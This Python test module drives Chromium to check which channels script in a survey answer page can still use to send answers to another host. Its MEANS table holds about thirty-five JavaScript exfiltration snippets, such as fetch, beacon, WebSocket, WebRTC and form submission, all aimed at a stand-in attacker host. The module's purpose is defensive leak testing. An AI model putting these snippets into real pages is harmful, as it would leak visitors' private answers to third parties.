"""What a page with answers tells the world, in a browser as people start it: every name that is looked up, every server
name of a connection, every request and every datagram (see `elsewhere`).

The attacker of these tests runs script in the page: an editor's, or that of a dependency. No policy in the page itself
stops all they can do. What it leaves open stands in `OPEN`, each with the words that SECURITY.md has for it, which the
suite looks for (`test_leaks_told.py`); the headers of hosting/ close all of it in Chromium.

These tests stand apart (`make leaks`): a browser looks names up, connects and rings when it suits it, so each page is
listened to in silence for seconds, beside a network and a whole browser of its own. On a machine that has more to do,
what must arrive may come minutes later, and the suite would wait for it or fail. That no page can send anything at all
is in the suite (`test_policy.py`); here is what little is left, which changes with a new browser and not with our code.
"""

from __future__ import annotations

import itertools
import re
import subprocess
import time
from collections import defaultdict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Error, Page, Playwright

from tests.browser.elsewhere import EVIL, STUN, Elsewhere, elsewhere, entering
from tests.browser.taking import IDS, take
from tests.hosting_files import apache, nginx
from tools.programs import CHROMIUM, find_browser, missing

pytestmark = pytest.mark.leaks
PATIENCE = 150.0
"""Seconds in which something must arrive where nothing stops it."""
SILENCE = 2.0
"""Seconds in which nothing more may arrive. Without a policy all arrives within a quarter of this."""
FIRST_WITH_ALLOWLIST = 152
ANSWER_PAGES = ("scan/", "scan/team/", "scan/organisatie/")


@dataclass(frozen=True, slots=True, kw_only=True)
class Means:
    """A way to tell another host something: a script in which `u` is an address there, and `host` its name."""

    script: str
    alone: bool = False
    """Whether it gets a page of its own: it goes away from there, or needs it to be in front."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Open:
    """What arrives from a page with answers by a means that its own policy leaves open, and how we tell it."""

    arrives: frozenset[str]
    told: str
    """Words that stand in SECURITY.md."""
    told_to_visitors: str
    """Words that stand in docs/privacy.md."""


def _link(kind: str, extra: str = "") -> str:
    return f"const l = document.createElement('link'); l.rel = '{kind}'; l.href = u; {extra} document.head.append(l)"


def _element(name: str, attribute: str = "src") -> str:
    return f"const e = document.createElement('{name}'); e.{attribute} = u; document.body.append(e)"


_FORM = "const f = document.createElement('form'); f.action = u; f.method = 'post'; document.body.append(f);"
_CREATE = (
    "navigator.credentials.create({ publicKey: { challenge: new Uint8Array(32), rp: { id: host, name: 'x' },"
    " user: { id: new Uint8Array(8), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }]"
    " } }).catch(() => {})"
)
MEANS: Mapping[str, Means] = {
    "fetch": Means(script="fetch(u, { mode: 'no-cors' }).catch(() => {})"),
    "fetch that outlives the page": Means(script="fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => {})"),
    "XMLHttpRequest": Means(script="const x = new XMLHttpRequest(); x.open('GET', u); x.send()"),
    "beacon": Means(script="navigator.sendBeacon(u, '4')"),
    "WebSocket": Means(script="new WebSocket(u.replace('https', 'wss'))"),
    "EventSource": Means(script="new EventSource(u)"),
    "image": Means(script="new Image().src = u"),
    "picture in a drawing": Means(
        script="const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'),"
        " i = document.createElementNS(n, 'image'); i.setAttribute('href', u); s.append(i); document.body.append(s)"
    ),
    "background picture": Means(script="document.body.style.backgroundImage = `url(${u})`"),
    "icon": Means(script=_link("icon")),
    "video": Means(script="const v = document.createElement('video'); v.preload = 'auto'; v.src = u; v.load()"),
    "script": Means(script=_element("script")),
    "module": Means(script="import(u).catch(() => {})"),
    "style sheet": Means(script=_link("stylesheet")),
    "font": Means(script="new FontFace('x', `url(${u})`).load().catch(() => {})"),
    "preload": Means(script=_link("preload", "l.as = 'image';")),
    "prefetch": Means(script=_link("prefetch")),
    "modulepreload": Means(script=_link("modulepreload")),
    "object": Means(script=_element("object", "data")),
    "embed": Means(script=_element("embed")),
    "worker": Means(
        script="new Worker(URL.createObjectURL(new Blob([`fetch('${u}', { mode: 'no-cors' }).catch(() => {})`])))"
    ),
    "frame from a string": Means(
        script="const f = document.createElement('iframe'); f.srcdoc = `<img src='${u}'>`; document.body.append(f)"
    ),
    "ping of a link": Means(
        script="const a = document.createElement('a'); a.href = '#x'; a.ping = u; document.body.append(a); a.click()"
    ),
    "name looked up in advance": Means(script=_link("dns-prefetch")),
    "connection in advance": Means(script=_link("preconnect")),
    "frame": Means(script=_element("iframe")),
    "key of another site": Means(
        script="navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: host } }).catch(() => {})"
    ),
    "new key for another site": Means(script=_CREATE, alone=True),
    "call from browser to browser": Means(
        script=f"const p = new RTCPeerConnection({{ iceServers: [{{ urls: `stun:${{host}}:{STUN}` }}] }});"
        " p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer)); window.call = p"
    ),
    "form": Means(script=f"{_FORM} f.submit()", alone=True),
    "form in another window": Means(script=f"{_FORM} f.target = '_blank'; f.submit()", alone=True),
    "navigation": Means(script="location.href = u", alone=True),
    "link that somebody follows": Means(
        script="const a = document.createElement('a'); a.href = u; document.body.append(a); a.click()", alone=True
    ),
    "new window": Means(script="window.open(u)", alone=True),
    "refresh": Means(
        script="const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u;"
        " document.head.append(m)",
        alone=True,
    ),
}
_NAME = frozenset({"dns"})
_CONNECTION = frozenset({"dns", "tls"})
_REQUEST = frozenset({"dns", "tls", "request"})
OPEN: Mapping[str, Open] = {
    "name looked up in advance": Open(
        arrives=_NAME, told="dns-prefetch", told_to_visitors="de naam van een ander adres laten opzoeken"
    ),
    "connection in advance": Open(
        arrives=_CONNECTION, told="preconnect", told_to_visitors="alvast contact mee laten leggen"
    ),
    "frame": Open(arrives=_CONNECTION, told="kader", told_to_visitors="een kader"),
    "form": Open(arrives=_CONNECTION, told="formulier", told_to_visitors="een formulier"),
    "form in another window": Open(arrives=_CONNECTION, told="formulier", told_to_visitors="een formulier"),
    # The browser asks that site for a list, at an address of its own: no more than the name is for whoever sends it.
    "key of another site": Open(arrives=_REQUEST, told="WebAuthn", told_to_visitors="WebAuthn"),
    "new key for another site": Open(arrives=_REQUEST, told="WebAuthn", told_to_visitors="WebAuthn"),
    "call from browser to browser": Open(
        arrives=frozenset({"dns", "datagram"}), told="WebRTC", told_to_visitors="WebRTC"
    ),
    "navigation": Open(arrives=_REQUEST, told="gaat naar een ander adres", told_to_visitors="een andere pagina openen"),
    "link that somebody follows": Open(
        arrives=_REQUEST, told="gaat naar een ander adres", told_to_visitors="een andere pagina openen"
    ),
    "new window": Open(arrives=_REQUEST, told="een venster opent", told_to_visitors="een nieuw venster"),
    "refresh": Open(arrives=_REQUEST, told="gaat naar een ander adres", told_to_visitors="een andere pagina openen"),
}
"""All that the policy in a page cannot stop, as a browser does it today. When one of them learns to, this says so."""


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """A browser as people start it, and the ears of everybody else."""

    net: Elsewhere
    browser: BrowserContext
    version: int


@pytest.fixture(scope="module")
def world(playwright: Playwright, site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The site three times: a page without a policy, the pages as they are, and with the headers of hosting/."""
    if entering() is None:
        pytest.skip("this system makes no network of its own (unshare --net: as root, or with user namespaces)")
    path = find_browser(playwright.chromium.executable_path)
    if path is None:
        pytest.fail(missing(CHROMIUM), pytrace=False)
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "bare").mkdir()
    (folder / "bare/index.html").write_text('<!doctype html><meta charset="utf-8"><title>x</title><body>x')
    said = subprocess.run([path, "--version"], capture_output=True, text=True, check=True).stdout
    sites = {"bare": folder / "bare", "plain": site, "nginx": site, "apache": site}
    headers = {
        name: {rf"^/{address}(?:index\.html)?$": read(address) for address in ANSWER_PAGES}
        for name, read in (("nginx", nginx), ("apache", apache))
    }
    with elsewhere(folder, path, sites, headers) as net:
        # a profile that stays: without one, browsers look up nothing in advance
        browser = playwright.chromium.launch_persistent_context(
            str(folder / "profile"), executable_path=str(net.browser), ignore_https_errors=True
        )
        page = browser.new_page()  # a browser that has only just started drops what it is asked
        page.goto("https://bare.ours.test/")
        send(page, "frame", f"first.{EVIL}")
        while ("request", f"first.{EVIL}/leak?answers=4,4,5") not in net.events():
            page.wait_for_timeout(50)
        page.close()
        yield World(net=net, browser=browser, version=int(re.findall(r"\b(\d+)\.\d", said)[0]))
        browser.close()


_visits = itertools.count(1)


def host_of(means: str, visit: int) -> str:
    """The name by which a means is known at the other end; a new one each time, as browsers remember names."""
    return f"{means.lower().replace(' ', '-')}-{visit}.{EVIL}"


def send(page: Page, means: str, host: str) -> None:
    """Try a means; that the browser refuses it with an exception is fine."""
    script = f"([u, host]) => {{ try {{ {MEANS[means].script} }} catch (e) {{ return String(e); }} }}"
    try:
        page.evaluate(script, [f"https://{host}/leak?answers=4,4,5", host])
    except Error as problem:
        assert "navigat" in str(problem) or "destroyed" in str(problem), problem


def heard(world: World, address: str, expected: Mapping[str, frozenset[str]]) -> dict[str, frozenset[str]]:
    """What arrives from a page by each means: what is expected, however long it takes, and then in the silence.

    Each page is listened to while it is in front: what a page behind another has not asked for by then, Chromium puts
    off for as long as it likes.
    """
    visit = next(_visits)
    together = [means for means, how in MEANS.items() if not how.alone]
    pages: list[Page] = []
    found: dict[str, set[str]] = defaultdict(set)

    def listen(seconds: float, wanted: Mapping[str, frozenset[str]] | None = None) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            pages[0].wait_for_timeout(50)
            for kind, text in world.net.events():
                for means in MEANS:
                    if text.startswith(host_of(means, visit)) or (kind == "datagram" and "call" in means):
                        found[means].add(kind)
            if wanted is not None and all(found[means] >= kinds for means, kinds in wanted.items()):
                break

    for group in (together, *([means] for means, how in MEANS.items() if how.alone)):
        pages.append(world.browser.new_page())
        pages[-1].goto(address)
        for means in group:
            send(pages[-1], means, host_of(means, visit))
        listen(PATIENCE, {means: expected[means] for means in group if means in expected})
        if group is together:
            listen(SILENCE)
    listen(SILENCE)
    for page in world.browser.pages[1:]:
        page.close()
    return {means: frozenset(kinds) for means, kinds in found.items() if kinds}


def test_every_means_tells_somebody_elsewhere_something_where_nothing_stops_it(world: World) -> None:
    """Else the silence of the other tests would prove nothing."""
    wanted = {means: (OPEN[means].arrives if means in OPEN else _REQUEST) for means in MEANS}
    found = heard(world, "https://bare.ours.test/", wanted)
    assert {means: kinds for means, kinds in wanted.items() if not found.get(means, frozenset()) >= kinds} == {}


@pytest.mark.parametrize("address", ANSWER_PAGES)
def test_a_page_with_answers_tells_nobody_anything_but_by_the_means_that_we_name(world: World, address: str) -> None:
    wanted = {means: leak.arrives for means, leak in OPEN.items()}
    assert heard(world, f"https://plain.ours.test/{address}", wanted) == wanted


@pytest.mark.parametrize("address", ANSWER_PAGES)
@pytest.mark.parametrize("server", ["nginx", "apache"])
def test_with_our_headers_a_page_with_answers_tells_nobody_anything(world: World, server: str, address: str) -> None:
    if world.version < FIRST_WITH_ALLOWLIST:
        pytest.skip(f"Chromium {world.version} does not know Connection-Allowlist: {FIRST_WITH_ALLOWLIST} is the first")
    assert heard(world, f"https://{server}.ours.test/{address}", {}) == {}


def asked_about_fields(playwright: Playwright, server: str, folder: Path, response: int) -> set[str]:
    """The addresses that a browser asks what belongs in the fields of a finished scan, by its own log."""
    path, log = find_browser(playwright.chromium.executable_path), folder / "net.json"
    if path is None:
        pytest.fail(missing(CHROMIUM), pytrace=False)
    browser = playwright.chromium.launch_persistent_context(
        str(folder / "profile"),
        executable_path=path,
        args=[f"--log-net-log={log}", "--net-log-capture-mode=Everything"],
        ignore_default_args=["--disable-background-networking"],
    )
    page = browser.new_page()
    page.goto(f"{server}scan/")
    take(page, dict.fromkeys(IDS, response))
    page.wait_for_timeout(1000 * SILENCE)
    browser.close()
    return set(re.findall(r"https://content-autofill\.googleapis\.com/[^\"]+", log.read_text(encoding="utf-8")))


def test_what_the_browser_asks_about_our_fields_is_the_same_whatever_somebody_answers(
    playwright: Playwright, server: str, tmp_path: Path
) -> None:
    lowest, highest = (asked_about_fields(playwright, server, tmp_path / str(each), each) for each in (1, 5))
    assert lowest, "it asks nothing now: SECURITY.md and docs/privacy.md say that it does"
    assert lowest == highest
